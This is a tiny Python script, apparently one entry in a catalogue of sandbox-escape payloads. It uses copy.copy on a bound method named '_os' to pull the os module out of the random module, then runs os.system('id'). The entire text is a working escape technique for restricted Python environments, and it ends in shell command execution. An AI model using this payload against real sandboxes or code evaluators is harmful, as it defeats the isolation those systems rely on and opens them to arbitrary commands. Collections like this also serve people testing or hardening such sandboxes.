# family: E (copy.copy runs a bound method's reduce: getattr(self, __name__))   goal: id
import copy, random
def f(self):
    pass
f.__name__ = "_os"
os_ = copy.copy(f.__get__(random))
os_.system("id")
